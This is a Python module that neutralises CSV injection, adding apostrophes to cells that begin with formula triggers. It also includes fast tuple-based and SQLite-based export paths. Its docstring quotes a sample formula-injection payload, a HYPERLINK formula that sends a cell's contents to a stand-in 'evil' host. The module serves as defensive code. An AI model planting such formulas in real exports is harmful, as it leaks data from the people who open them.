"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").

Evidence sentences and names come from news articles, i.e. from strangers. A cell such as
``=HYPERLINK("http://evil/?"&A1)`` would run as a formula in Excel, LibreOffice or Google Sheets, so
every text cell starting with a formula trigger gets a leading apostrophe: spreadsheets then show it as
text. Real numbers (``int``/``float``, including negative ones) are left alone: they are data, and an
apostrophe would turn them into text.

The file is RFC 4180 (``\\r\\n`` line ends, minimal quoting) with a UTF-8 byte-order mark by default,
because Excel only reads a CSV as UTF-8, and so shows Chinese correctly, when the mark is there.
"""
from __future__ import annotations

import csv
import datetime as _dt
import decimal
from typing import Any, Iterable, TextIO

__all__ = ["neutralise", "write_csv", "write_csv_tuples", "FORMULA_TRIGGERS"]

# = + - @ start formulas; TAB and CR are on OWASP's list because some spreadsheets skip them and then
# read the formula behind them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """The cell as text a spreadsheet will not evaluate: None is empty, numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):  # before int: bool is an int subclass, and "True" is clearer than "1"
        return str(value).lower()
    if isinstance(value, (int, float, decimal.Decimal)):
        return _plain_number(value)
    if isinstance(value, (_dt.date, _dt.datetime)):
        return value.isoformat()
    if isinstance(value, (list, tuple, set, frozenset)):  # e.g. the names of a flow: one readable cell
        return neutralise("; ".join("" if item is None else str(item) for item in value))
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _plain_number(value: int | float | decimal.Decimal) -> str:
    """Digits as a person would type them: no exponent (6.6e9 would read as a formula-like oddity)."""
    if isinstance(value, float):
        if value != value or value in (float("inf"), float("-inf")):
            return str(value)  # nan / inf: nothing sensible to write, keep Python's spelling
        if value.is_integer():
            return str(int(value))
        text = repr(value)
        if "e" not in text:  # the usual case (0.9, -0.25): repr is already plain digits
            return text
        return format(decimal.Decimal(text), "f")
    if isinstance(value, decimal.Decimal):
        return format(value, "f")
    return str(value)


def write_csv(
    rows: Iterable[dict],
    columns: list[str],
    out: TextIO,
    *,
    raw: bool = False,
    bom: bool = True,
) -> int:
    """Write a header and one line per row (missing keys are empty cells); return the number of rows written.

    ``out`` should be opened with ``encoding="utf-8", newline=""`` so the ``\\r\\n`` line ends reach the
    file unchanged. ``raw=True`` writes values as they are (for programs, not spreadsheets).
    """
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([_cell(column, raw) for column in columns])
    count = 0
    for row in rows:
        writer.writerow([_cell(row.get(column), raw) for column in columns])
        count += 1
    return count


def _cell(value: Any, raw: bool) -> str:
    if raw:
        if isinstance(value, (list, tuple, set, frozenset)):
            return "; ".join("" if item is None else str(item) for item in value)
        return "" if value is None else str(value)
    return neutralise(value)


# -- the bulk path: a million rows of tuples straight from a database cursor ---------------------------------
_TRIGGER_CHARS = frozenset(FORMULA_TRIGGERS)


def _tuple_converter(width: int):
    """A function turning a row tuple into the same cells ``neutralise`` gives, with no call per text cell.

    Exports are dominated by text cells, so each one is an inline expression (str: add the apostrophe when it
    starts with a trigger; int: as is, csv writes it; None: empty) and only the rest goes through neutralise.
    """
    cells = ", ".join(
        f"((\"'\" + v if v[:1] in T else v) if (t := type(v := r[{i}])) is str else "
        f"(v if t is int else ('' if v is None else N(v))))" for i in range(width))
    return eval(f"lambda r: ({cells},)", {"T": _TRIGGER_CHARS, "N": neutralise})  # noqa: S307 - our own text


def write_csv_tuples(batches: Iterable[list[tuple]], columns: list[str], out: TextIO, *, bom: bool = True) -> int:
    """``write_csv`` for batches of row tuples in ``columns`` order (a cursor's fetchmany): same text, far faster."""
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([neutralise(column) for column in columns])
    convert = _tuple_converter(len(columns))
    count = 0
    for batch in batches:
        writer.writerows(map(convert, batch))
        count += len(batch)
    return count


# -- the SQLite path: SQLite neutralises, csv.writer only quotes ----------------------------------------------------
# Per row, the tuple path above costs a Python call that looks at every cell. SQLite can apply the same rules in C
# while it reads the row, so each row goes from the cursor to csv.writer untouched. Kinds of cell: "text" (a
# formula trigger gets the apostrophe), "number" (whole numbers as integers; Python spells the rare number it would
# print with an exponent, through a function registered on the connection), anything else as stored.
_SQL_TRIGGERS = "(" + ", ".join(str(ord(c)) for c in FORMULA_TRIGGERS) + ")"  # code points: unicode() is cheaper
SQL_NUMBER_FUNCTION = "talentdb_plain_number"


def sqlite_safe_cell(expr: str, kind: str) -> str:
    """An SQLite expression whose value csv.writer turns into the cell ``neutralise`` gives for ``expr``."""
    if kind == "text":
        return f"CASE WHEN unicode({expr}) IN {_SQL_TRIGGERS} THEN '''' || {expr} ELSE {expr} END"
    if kind == "number":
        # csv.writer writes an int as str() and a float as repr(), which is _plain_number's spelling unless repr
        # uses an exponent (below 1e-4 or from 1e16) or the float is whole (1.0 → 1).
        return (f"CASE WHEN typeof({expr}) <> 'real' THEN {expr} "
                f"WHEN abs({expr}) < 9e15 AND {expr} = CAST({expr} AS INTEGER) THEN CAST({expr} AS INTEGER) "
                f"WHEN abs({expr}) >= 1e-4 AND abs({expr}) < 1e16 THEN {expr} "
                f"ELSE {SQL_NUMBER_FUNCTION}({expr}) END")
    return expr


def register_sqlite_functions(dbapi_connection) -> None:
    """What sqlite_safe_cell's expressions call, on a sqlite3 connection."""
    dbapi_connection.create_function(SQL_NUMBER_FUNCTION, 1, _plain_number, deterministic=True)
